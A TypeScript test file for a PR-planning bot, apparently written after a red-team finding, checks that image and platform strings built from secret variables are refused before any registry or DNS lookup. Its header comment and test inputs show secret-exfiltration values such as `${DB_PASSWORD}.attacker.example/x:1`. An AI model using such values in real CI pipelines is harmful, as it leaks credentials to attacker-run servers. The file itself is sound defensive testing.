// Red-team round 8, H1: plans run for every PR (a fork's too) before anyone
// reviews it, and planning resolves each image: the berth server looks its
// registry's host up and the target's engine asks the registry for its
// manifest. An image built from a secret variable (`x:${DB_PASSWORD}`,
// `${DB_PASSWORD}.attacker.example/x:1`) sent the secret to a registry or DNS
// server the PR author runs, though the plan comment masked it. Such an image
// (or platform) is refused at its line, quoting nothing of it, before anything
// is resolved; a secret-looking variable whose value the PR itself gives
// (`.env`'s VALKEY_IMAGE, a default) carries nothing secret and still resolves.
import type Dockerode from 'dockerode';
import { describe, expect, it } from 'vitest';
import type { RegistryLookup } from '../../src/compose/registries.js';
import { parseConfig } from '../../src/config/config.js';
import { planFirstEnvironment } from '../helpers/planning-bot.js';

const SECRET = 'k9x2hunter7q';

/** Plans `files` through the bot as the app does, with an engine and a DNS that record what they were asked. */
async function plan(files: Record<string, string>, extra = '') {
  const asked: string[] = [];
  const docker = {
    getImage: (name: string) => ({
      distribution: async () => {
        asked.push(`distribution ${name}`);
        return { Descriptor: { digest: `sha256:${'a'.repeat(64)}` } };
      },
      inspect: async () => {
        asked.push(`inspect ${name}`);
        throw Object.assign(new Error('no such image'), { statusCode: 404 });
      },
    }),
  } as unknown as Dockerode;
  const lookup: RegistryLookup = async (host) => {
    asked.push(`dns ${host}`);
    return ['93.184.215.14'];
  };
  const config = parseConfig(['project: p', 'environments:', '  - name: production', '    compose: [compose.yml]', `    variables: {DB_PASSWORD: "${SECRET}"${extra}}`].join('\n'), '.github/berth.yml');
  const r = await planFirstEnvironment(config, files, docker, lookup);
  return { r, asked };
}

describe('a secret variable never leaves berth through image resolution', () => {
  it('in the tag, the host or behind a default: refused at its line, nothing asked of the engine or the DNS', async () => {
    for (const image of ['registry.example.com/x:${DB_PASSWORD}', '${DB_PASSWORD}.registry.example.com/x:1', '"${NOPE:-${DB_PASSWORD}}.example/x:1"']) {
      const { r, asked } = await plan({ 'compose.yml': `services:\n  web:\n    image: ${image}\n` });
      expect(r.ok, image).toBe(false);
      expect(r.markdown).toContain('compose.yml');
      expect(r.markdown).toContain('cannot come from a secret variable');
      expect(r.markdown).not.toContain(SECRET);
      expect(asked.filter((a) => a.includes(SECRET)), image).toEqual([]);
    }
  });

  it('relayed through the .env, or as a platform: refused alike', async () => {
    const relayed = await plan({ 'compose.yml': 'services:\n  web:\n    image: x.example/app:${RELAY}\n', '.env': 'RELAY=${DB_PASSWORD}\n' });
    expect(relayed.r.ok).toBe(false);
    expect(relayed.asked.filter((a) => a.includes(SECRET))).toEqual([]);
    const platform = await plan({ 'compose.yml': 'services:\n  web:\n    image: nginx:1\n    platform: linux/${DB_PASSWORD}\n' });
    expect(platform.r.ok).toBe(false);
    expect(platform.asked.filter((a) => a.includes(SECRET))).toEqual([]);
  });

  it('a secret-looking name whose value the PR gives (.env, a default) resolves as before', async () => {
    const { r, asked } = await plan({ 'compose.yml': 'services:\n  cache:\n    image: ${VALKEY_IMAGE}\n  db:\n    image: "postgres:${PG_KEY_VERSION:-16}"\n', '.env': 'VALKEY_IMAGE=ghcr.io/valkey-io/valkey:9\n' });
    expect(r.ok, r.markdown.slice(0, 400)).toBe(true);
    expect(asked).toContain('distribution ghcr.io/valkey-io/valkey:9');
    expect(asked.some((a) => a.startsWith('distribution') && a.includes('postgres:16'))).toBe(true);
  });
});
